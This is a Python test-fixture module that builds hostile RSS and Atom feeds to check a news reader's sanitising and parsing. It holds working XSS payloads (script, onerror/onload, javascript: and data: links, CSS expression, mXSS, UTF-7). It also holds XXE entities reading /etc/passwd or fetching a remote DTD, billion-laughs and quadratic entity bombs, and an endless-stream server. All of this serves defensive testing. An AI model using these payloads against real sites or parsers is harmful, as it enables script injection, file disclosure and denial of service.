"""Hostile RSS and Atom feeds, built as bytes, for tests/reliability/test_hostile_feeds.py.

Every markup payload, if a browser ever ran it, does two observable things: it adds its case
name to `top.__pwned` and requests `<canary>/canary/<case>` (from the fake upstream, which
counts hits). Payloads that load a resource (img, iframe, object, CSS url()) point it at
the canary too, so even markup rendered with its handlers stripped is noticed.
"""

from __future__ import annotations

import contextlib
import html
import socket
import threading
from collections.abc import Iterator

GOOD_TITLES = ("Fed holds rates steady", "ECB signals a June cut")
DATE = "Wed, 31 Jan 2018 10:00:00 GMT"
ATOM_DATE = "2018-01-31T10:00:00Z"


def js(case: str, canary: str) -> str:
    """A script that adds its case to `top.__pwned` and calls the canary: no spaces or double
    quotes, so it fits any attribute, and `top` reaches out of a frame."""
    return (
        f"(top.__pwned=top.__pwned||[]).push('{case}');"
        f"fetch('{canary}/canary/{case}',{{mode:'no-cors'}})"
    )


def markup_payloads(canary: str) -> dict[str, str]:
    """Case name -> HTML that would run `js` (or load a canary URL) if rendered as HTML.

    Each carries the visible words "Hostile <case>" outside the payload, so the sanitised
    headline still shows and the test can find it.
    """

    def run(case: str) -> str:
        return js(case, canary)

    def url(case: str) -> str:
        return f"{canary}/canary/{case}"

    return {
        "script": f"<script>{run('script')}</script>Hostile script",
        "img-onerror": f'<img src="{url("img-onerror")}" onerror="{run("img-onerror")}">'
        "Hostile img-onerror",
        "svg-onload": f'<svg onload="{run("svg-onload")}"><circle r="1"></circle></svg>'
        "Hostile svg-onload",
        "svg-script": f"<svg><script>{run('svg-script')}</script>"
        f'<image href="{url("svg-script-image")}"></image></svg>Hostile svg-script',
        "javascript-link": f'<a href="javascript:{run("javascript-link")}">'
        "Hostile javascript-link</a>",
        # the base64 is <script>top.__pwned='data'</script>
        "data-link": '<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0nZGF0YSc8L3Njcmlw'
        'dD4=">Hostile data-link</a>',
        "style-expression": f'<style>@import url("{url("style-expression-import")}");'
        f"p{{width:expression({run('style-expression')})}}</style>Hostile style-expression",
        "css-url": f"<p style=\"background:url('{url('css-url')}');"
        f'width:expression({run("css-url")})">Hostile css-url</p>',
        "css-javascript-url": '<p style="background-image:url(javascript:'
        f'{run("css-javascript-url")})">Hostile css-javascript-url</p>',
        "iframe": f'<iframe src="{url("iframe")}"></iframe>'
        f'<iframe src="javascript:{run("iframe-js")}"></iframe>Hostile iframe',
        "object": f'<object data="{url("object")}" type="text/html"></object>'
        f'<embed src="{url("embed")}">Hostile object',
        "mxss": f'<noscript><p title="</noscript><img src=x onerror={run("mxss")}>"></p>'
        "</noscript>Hostile mxss",
        "form": f'<form action="javascript:{run("form")}"><button>Hostile form</button></form>',
    }


def rss(items: list[str]) -> bytes:
    """A UTF-8 RSS 2.0 document around <item> bodies."""
    body = "".join(f"<item>{item}</item>" for item in items)
    head = '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title>'
    return f"{head}{body}</channel></rss>".encode()


def item(title_xml: str, *, link: str = "", description_xml: str = "", minute: int = 0) -> str:
    """One <item>: the title and description as XML text (already escaped or CDATA)."""
    when = DATE.replace("10:00:00", f"10:{minute:02d}:00")
    link_tag = f"<link>{html.escape(link)}</link>" if link else ""
    desc = f"<description>{description_xml}</description>" if description_xml else ""
    return f"<title>{title_xml}</title><pubDate>{when}</pubDate>{link_tag}{desc}"


def good_items() -> list[str]:
    """Two plain headlines that must still show beside the hostile ones."""
    return [
        item(t, link=f"https://news.example/{i}", minute=50 + i) for i, t in enumerate(GOOD_TITLES)
    ]


def hostile_rss(canary: str) -> bytes:
    """Every markup payload in a title (escaped once, as RSS carries HTML) and a description,
    with javascript: and data: links; plus the two good items."""
    links = {
        "javascript-link": f"javascript:{js('link-field', canary)}",
        "data-link": "data:text/html,<script>top.__pwned='data-field'</script>",
    }
    items = [
        item(
            html.escape(markup),
            link=links.get(case, f"https://news.example/{case}"),
            description_xml=html.escape(markup),
            minute=i,
        )
        for i, (case, markup) in enumerate(markup_payloads(canary).items())
    ]
    return rss(good_items() + items)


def escaped_rss(canary: str) -> bytes:
    """A script escaped twice (`&amp;lt;script&amp;gt;`: a naive unescape makes it markup), and
    a CDATA-wrapped script and img; plus the two good items."""
    script = f"<script>{js('entity-escaped', canary)}</script>Hostile entity-escaped"
    cdata = f"<script>{js('cdata', canary)}</script><img src=x onerror={js('cdata-img', canary)}>"
    return rss(
        [
            *good_items(),
            item(html.escape(html.escape(script)), minute=30),
            item(f"<![CDATA[{cdata}Hostile cdata]]>", minute=31),
        ]
    )


ATOM_CASES = ("script", "img-onerror", "svg-onload", "javascript-link", "style-expression")
ATOM_CASES += ("iframe", "object", "mxss")


def hostile_atom(canary: str) -> bytes:
    """An Atom feed: html titles with payloads and javascript: alternate links, and an xhtml
    title holding live XHTML markup (a script and an svg onload)."""
    payloads = markup_payloads(canary)
    entries = [
        f'<entry><title type="html">{html.escape(payloads[case])} atom</title>'
        f'<link rel="alternate" href="javascript:{html.escape(js("atom-link", canary))}"/>'
        f"<id>urn:{case}</id><updated>2018-01-31T09:{i:02d}:00Z</updated></entry>"
        for i, case in enumerate(ATOM_CASES)
    ]
    xhtml = (
        '<div xmlns="http://www.w3.org/1999/xhtml">'
        f"<script>{html.escape(js('xhtml-script', canary))}</script>"
        '<svg xmlns="http://www.w3.org/2000/svg" '
        f'onload="{html.escape(js("xhtml-svg", canary))}"/>Hostile xhtml atom</div>'
    )
    entries.append(
        f'<entry><title type="xhtml">{xhtml}</title><id>urn:xhtml</id>'
        "<updated>2018-01-31T09:40:00Z</updated></entry>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>A</title><id>urn:a</id><updated>{ATOM_DATE}</updated>{''.join(entries)}</feed>"
    ).encode()


def billion_laughs() -> bytes:
    """Ten levels of ten: 10^9 "lol"s (3 GB) if an XML parser expanded &i;."""
    levels = "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    doctype = f'<!DOCTYPE rss [<!ENTITY a "lol">{levels}]>'
    return rss([item("&i;")]).replace(b"<rss", doctype.encode() + b"<rss", 1)


def quadratic_blowup() -> bytes:
    """One 50 KB entity referenced 20,000 times (1 GB expanded), no nesting to detect."""
    doctype = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>'
    return rss([item("&a;" * 20_000)]).replace(b"<rss", doctype.encode() + b"<rss", 1)


def external_entity() -> bytes:
    """An external entity naming /etc/passwd, used in a title."""
    doctype = '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return rss([item("Leak &xxe;")]).replace(b"<rss", doctype.encode() + b"<rss", 1)


def parameter_entity(canary: str) -> bytes:
    """An external parameter entity: the DTD itself fetched from the canary (out-of-band XXE)."""
    doctype = f'<!DOCTYPE rss [<!ENTITY % dtd SYSTEM "{canary}/canary/xxe-dtd"> %dtd;]>'
    return rss([item("Remote DTD")]).replace(b"<rss", doctype.encode() + b"<rss", 1)


def bad_encodings() -> dict[str, bytes]:
    """Case name -> a feed whose bytes are wrong for its declared encoding, or worse. Each also
    carries an older plain item, "Still readable (<case>)"."""

    def feed(case: str, title: bytes, declared: bytes = b"utf-8") -> bytes:
        good = f"<title>Still readable ({case})</title><pubDate>{DATE.replace('10:', '09:')}"
        return (
            b'<?xml version="1.0" encoding="' + declared + b'"?><rss version="2.0"><channel>'
            b"<title>T</title><item><title>"
            + title
            + b"</title><pubDate>"
            + DATE.encode()
            + b"</pubDate></item><item>"
            + good.encode()
            + b"</pubDate></item></channel></rss>"
        )

    return {
        # invalid UTF-8: Latin-1 "é", a lone continuation byte, a cut sequence, 0xff
        "invalid-utf8": feed("invalid-utf8", b"Caf\xe9 \x80 \xc3( \xff rates"),
        # overlong encodings of "<" and ">": a lenient decoder would make "<script>"
        "overlong-utf8": feed(
            "overlong-utf8", b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"
        ),
        # declared Latin-1, sent as UTF-8
        "wrong-declared": feed(
            "wrong-declared", "Z\u00fcrich \u2013 B\u00f6rse".encode(), b"iso-8859-1"
        ),
        "unknown-encoding": feed("unknown-encoding", b"Rates", b"x-hostile-42"),
        # UTF-7 hides markup from a byte scan: +ADw- is "<", +AD4- is ">"
        "utf7-markup": feed(
            "utf7-markup", b"+ADw-script+AD4-top.__pwned=1+ADw-/script+AD4-Hostile", b"utf-7"
        ),
        "nul-bytes": feed("nul-bytes", b"Nul\x00 in\x00 title"),
        # references to no character: half a surrogate pair, past U+10FFFF, NUL, a control
        "bad-charrefs": feed("bad-charrefs", b"Half &#xD83D; past &#x110000; &#0;&#x1; end"),
        # a UTF-16 byte order mark, then an odd number of bytes
        "utf16-odd": b"\xff\xfe" + feed("utf16-odd", b"Odd").decode().encode("utf-16-le")[:-1],
    }


# The bad encodings feedparser still reads items from, with its parser's complaint: the feed's
# items are shown and the dataset's error says it is malformed.
MALFORMED = {
    "nul-bytes": "not well-formed (invalid token) at line 1",
    "bad-charrefs": "reference to invalid character number at line 1",
}


def malformed_note(feed: str, case: str, items: int = 2) -> str:
    """What the news dataset says of a malformed feed `case` served as `feed`."""
    return f"{feed}: malformed feed ({MALFORMED[case]}); {items} item(s) read from it are shown"


class StreamedFeed:
    """A loopback server for one feed URL: the first request gets `first` (with its length),
    later ones an endless RSS body with no Content-Length, which only a reader that counts as
    it streams can refuse. `sent` counts the bytes of the endless bodies that left."""

    def __init__(self, first: bytes, limit: int = 50 * 1024 * 1024) -> None:
        self.first, self.limit, self.sent = first, limit, 0
        self._stopping = False
        self._sock = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._sock.getsockname()[1]}/huge.xml"
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def start(self) -> StreamedFeed:
        self._thread.start()
        return self

    def _endless(self) -> Iterator[bytes]:
        yield b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
        block = "".join(f"<item>{item('Filler ' + 'x' * 200)}</item>" for _ in range(256))
        while True:
            yield block.encode()  # about 70 KB

    def _answer(self, conn: socket.socket, first: bool) -> None:
        conn.recv(65536)  # the request; its content does not matter
        head = "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nConnection: close\r\n"
        if first:
            conn.sendall(f"{head}Content-Length: {len(self.first)}\r\n\r\n".encode())
            conn.sendall(self.first)
            return
        conn.sendall(f"{head}\r\n".encode())  # no length: the body ends when we close
        for chunk in self._endless():
            if self.sent >= self.limit:
                return
            conn.sendall(chunk)
            self.sent += len(chunk)

    def _serve(self) -> None:
        first = True
        while not self._stopping:
            conn, _ = self._sock.accept()
            with conn, contextlib.suppress(OSError):  # the client hanging up is the point
                if not self._stopping:
                    self._answer(conn, first)
            first = False

    def stop(self) -> None:
        """Stop serving: wake the waiting accept() with one last connection, then close."""
        self._stopping = True
        if self._thread.is_alive():
            with contextlib.suppress(OSError):
                socket.create_connection(self._sock.getsockname(), timeout=2).close()
            self._thread.join(5)
        self._sock.close()
